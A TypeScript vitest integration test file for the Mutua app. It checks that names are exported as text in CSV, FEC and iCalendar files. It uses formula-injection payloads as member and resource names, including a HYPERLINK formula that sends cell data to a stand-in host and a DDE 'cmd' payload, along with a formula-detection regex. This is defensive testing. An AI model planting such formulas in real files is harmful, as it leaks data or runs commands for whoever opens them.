import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { addDays, fromParisWallClock, parisDateOf } from '../../shared/paris-time.js';
import { CREATE_USER, futureSlot, REGISTER_MEMBER, REGISTER_RESOURCE, RESERVE } from '../integration/graphql-documents.js';
import { ADMIN_EMAIL, ADMIN_PASSWORD, graphqlData, loginAs, type RunningServer, startServer } from '../support/mutua-server.js';

/**
 * Names typed into Mutua end up in files people open elsewhere: the CSV exports in a spreadsheet,
 * the FEC in accounting software, the iCalendar feed in a calendar application. Each must carry
 * them as text, never as a formula, a shifted column or a broken line.
 */
const SIREN = '732829320';
const FORMULA_NAMES = [`=HYPERLINK("http://x/?"&A1,"Coop")`, `+cmd|' /C calc'!A0`, `@SUM(1+1)`] as const;
/** A member named like a negative number: a name, so neutralised, unlike the amounts beside it. */
const MINUS_NAME = '-Coop';
/** What a spreadsheet reads as the start of a formula (OWASP), also after leading spaces. */
const FORMULA_START = /^(?:[\t\r\n]|\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20])/;
const FRENCH_NUMBER = /^-?\d+(?:,\d+)?$/;
const PASSWORD = 'un-mot-de-passe-long';

type Id = { id: string };

/** An RFC 4180 reader for `;`-separated text, strict enough to notice a broken quote or a stray line break. */
async function parseCsv(response: Response): Promise<string[][]> {
  // `Response.text()` drops the byte-order mark the spreadsheet needs to read UTF-8.
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await response.arrayBuffer());
  expect(text.startsWith('\ufeff')).toBe(true);
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let index = 1; index < text.length; index += 1) {
    const character = text[index]!;
    if (quoted && character === '"' && text[index + 1] === '"') {
      cell += '"';
      index += 1;
    } else if (quoted && character === '"') {
      quoted = false;
      expect(';\r'.includes(text[index + 1] ?? ''), `a quoted cell ends at a separator (offset ${index})`).toBe(true);
    } else if (quoted) {
      cell += character;
    } else if (character === '"' && cell === '') {
      quoted = true;
    } else if (character === ';') {
      row.push(cell);
      cell = '';
    } else if (character === '\r' && text[index + 1] === '\n') {
      rows.push([...row, cell]);
      row = [];
      cell = '';
      index += 1;
    } else {
      expect('\r\n'.includes(character), `a bare line break outside quotes (offset ${index})`).toBe(false);
      cell += character;
    }
  }
  expect({ quoted, row, cell }).toEqual({ quoted: false, row: [], cell: '' });
  return rows;
}

describe('names carried into exported files as text, never as formulas or broken lines', () => {
  let server: RunningServer;
  let coordinator: string;
  let treasurer: string;
  const ids: Record<string, string> = {};
  const today = parisDateOf(new Date());
  const thisMonthStart = `${today.slice(0, 7)}-01`;
  const lastMonth = { from: `${addDays(thisMonthStart, -1).slice(0, 7)}-01`, to: thisMonthStart };

  /** The one place a test downloads a file as a signed-in user: how the token travels may change. */
  const downloadAs = (token: string, path: string) => fetch(`${server.url}${path}`, { headers: { authorization: `Bearer ${token}` } });
  const gql = graphqlData(() => server);

  beforeAll(async () => {
    server = await startServer({ env: { MUTUA_SIREN: SIREN } });
    coordinator = await loginAs(server, ADMIN_EMAIL, ADMIN_PASSWORD);
    await gql(coordinator, CREATE_USER, { input: { email: 'tresorerie@pole.test', password: PASSWORD, role: 'TREASURER', memberId: null } });
    treasurer = await loginAs(server, 'tresorerie@pole.test', PASSWORD);
    for (const name of [...FORMULA_NAMES, MINUS_NAME]) {
      ids[name] = (await gql<{ registerMember: Id }>(coordinator, REGISTER_MEMBER, { input: { name, legalForm: 'ASSOCIATION', joinedOn: '2025-01-01' } })).registerMember.id;
    }
    const site = await gql<{ registerSite: Id }>(coordinator, `mutation($input: RegisterSiteInput!) { registerSite(input: $input) { id } }`, {
      input: { name: FORMULA_NAMES[2], address: '1 quai des Formules' },
    });
    ids.laser = (await gql<{ registerResource: Id }>(coordinator, REGISTER_RESOURCE, {
      input: { name: FORMULA_NAMES[1], kind: 'EQUIPMENT', hourlyRateCents: 2_500, ownerMemberId: ids[MINUS_NAME], siteId: site.registerSite.id },
    })).registerResource.id;
    ids.pool = (await gql<{ defineCostPool: Id }>(treasurer, `mutation($input: DefineCostPoolInput!) { defineCostPool(input: $input) { id } }`, {
      input: { name: FORMULA_NAMES[0], key: { kind: 'EQUAL' }, accountNumber: '606100' },
    })).defineCostPool.id;
    ids.period = (await gql<{ openPeriod: Id }>(treasurer, `mutation($input: OpenPeriodInput!) { openPeriod(input: $input) { id } }`, { input: lastMonth })).openPeriod.id;
    await gql(treasurer, `mutation($input: RecordCostInput!) { recordCost(input: $input) }`, {
      input: { poolId: ids.pool, amountCents: 10_001, incurredOn: addDays(lastMonth.from, 3), label: 'Fluides\rdu mois\nsuite\u2028fin\t' },
    });
    // 90 min at 25,00 €/h charged to a member and credited to '-Coop', whose balance turns negative.
    const start = fromParisWallClock(addDays(lastMonth.from, 9), 10 * 60);
    await gql(coordinator, `mutation($input: RecordUsageInput!) { recordUsage(input: $input) }`, {
      input: { resourceId: ids.laser, memberId: ids[FORMULA_NAMES[0]], start: start.toISOString(), end: new Date(start.getTime() + 90 * 60_000).toISOString() },
    });
    await gql(treasurer, `mutation($periodId: ID!) { closePeriod(periodId: $periodId) { status } }`, { periodId: ids.period });
  });
  afterAll(() => server?.stop());

  it('writes the settlement CSV with every name as text and every amount as a number, negative ones included', async () => {
    const response = await downloadAs(treasurer, `/exports/settlement/${ids.period}.csv`);
    expect(response.status).toBe(200);
    const [header, ...rows] = await parseCsv(response);
    expect(header!.slice(0, 2)).toEqual(['membre_id', 'membre']);
    expect(header![2]).toBe(`quote-part ${FORMULA_NAMES[0]}`);
    for (const cell of header!) expect(cell).not.toMatch(FORMULA_START);
    for (const row of rows) {
      expect(row).toHaveLength(header!.length);
      for (const text of row.slice(0, 2)) expect(text).not.toMatch(FORMULA_START);
      for (const amount of row.slice(2)) expect(amount).toMatch(FRENCH_NUMBER);
    }
    const names = rows.map((row) => row[1]);
    expect(names).toEqual(expect.arrayContaining([...FORMULA_NAMES, MINUS_NAME].map((name) => `'${name}`)));
    const minus = rows.find((row) => row[0] === ids[MINUS_NAME])!;
    // Its equal share of 100,01 € less the 37,50 € credited for its machine.
    expect(['-12,50', '-12,49']).toContain(minus.at(-1));
  });

  it('writes the impact CSV with every dimension as text and every value as a number', async () => {
    // Up to tomorrow: a resource counts from the day it was registered, today.
    const response = await downloadAs(treasurer, `/exports/impact.csv?from=${lastMonth.from}&to=${addDays(today, 1)}`);
    expect(response.status).toBe(200);
    const [header, ...rows] = await parseCsv(response);
    expect(header).toEqual(['indicateur', 'dimension', 'valeur', 'unite']);
    for (const row of rows) {
      expect(row).toHaveLength(4);
      for (const text of [row[0]!, row[1]!, row[3]!]) expect(text).not.toMatch(FORMULA_START);
      if (row[2] !== '') expect(row[2]).toMatch(FRENCH_NUMBER);
    }
    const dimensions = rows.map((row) => row[1]);
    expect(dimensions).toContain(`'${FORMULA_NAMES[1]}`);
    expect(dimensions).toContain(`'${FORMULA_NAMES[2]}`);
    expect(dimensions).toContain(`'${FORMULA_NAMES[0]} → ${MINUS_NAME}`);
    expect(rows).toContainEqual(['couts_mutualises_par_pot', `'${FORMULA_NAMES[0]}`, '100,01', '€']);
  });

  it('writes the FEC with 18 columns per line and no control character, labels as recorded', async () => {
    const response = await downloadAs(treasurer, `/exports/fec/${ids.period}`);
    expect(response.status).toBe(200);
    const text = new TextDecoder('iso-8859-15').decode(await response.arrayBuffer());
    const lines = text.replace(/\r\n$/, '').split('\r\n');
    for (const line of lines) {
      expect(line.split('\t')).toHaveLength(18);
      expect(line).not.toMatch(/[\u0000-\u0008\u000a-\u001f\u007f-\u009f]/);
    }
    // The FEC is a legal record read by accounting software, not a spreadsheet: names stay as typed.
    expect(text).toContain(FORMULA_NAMES[0]);
    expect(text).toContain('Fluides du mois suite');
  });

  it('escapes a bare carriage return in the iCalendar feed and keeps CRLF lines folded at 75 octets', async () => {
    const longName = `Salle\rdu fond, côté cour — l’atelier partagé des Bâtisseurs et de l’Économie sociale`;
    const resourceId = (await gql<{ registerResource: Id }>(coordinator, REGISTER_RESOURCE, { input: { name: longName, kind: 'SPACE' } })).registerResource.id;
    const purpose = 'Ordre du jour :\rpoint 1\r\npoint 2\nfin\tcolonne';
    await gql(coordinator, RESERVE, { input: { resourceId, memberId: ids[MINUS_NAME], ...futureSlot(5), purpose } });
    const feed = await gql<{ createCalendarFeed: { url: string } }>(coordinator, 'mutation($input: CreateCalendarFeedInput!) { createCalendarFeed(input: $input) { url } }', { input: { resourceId } });
    const document = await (await fetch(feed.createCalendarFeed.url)).text();

    expect(document.endsWith('\r\n')).toBe(true);
    const lines = document.slice(0, -2).split('\r\n');
    for (const line of lines) {
      expect(line).not.toMatch(/[\r\n]/);
      expect(Buffer.byteLength(line)).toBeLessThanOrEqual(75);
      expect(line).not.toMatch(/[\u0000-\u0008\u000a-\u001f\u007f]/);
    }
    const unfolded = document.replaceAll('\r\n ', '').split('\r\n');
    expect(unfolded).toContain(`X-WR-CALNAME:Mutua — Salle\\ndu fond\\, côté cour — l’atelier partagé des Bâtisseurs et de l’Économie sociale`);
    expect(unfolded).toContain(`SUMMARY:Salle\\ndu fond\\, côté cour — l’atelier partagé des Bâtisseurs et de l’Économie sociale — ${MINUS_NAME}`);
    expect(unfolded).toContain('DESCRIPTION:Ordre du jour :\\npoint 1\\npoint 2\\nfin\tcolonne');
  });
});
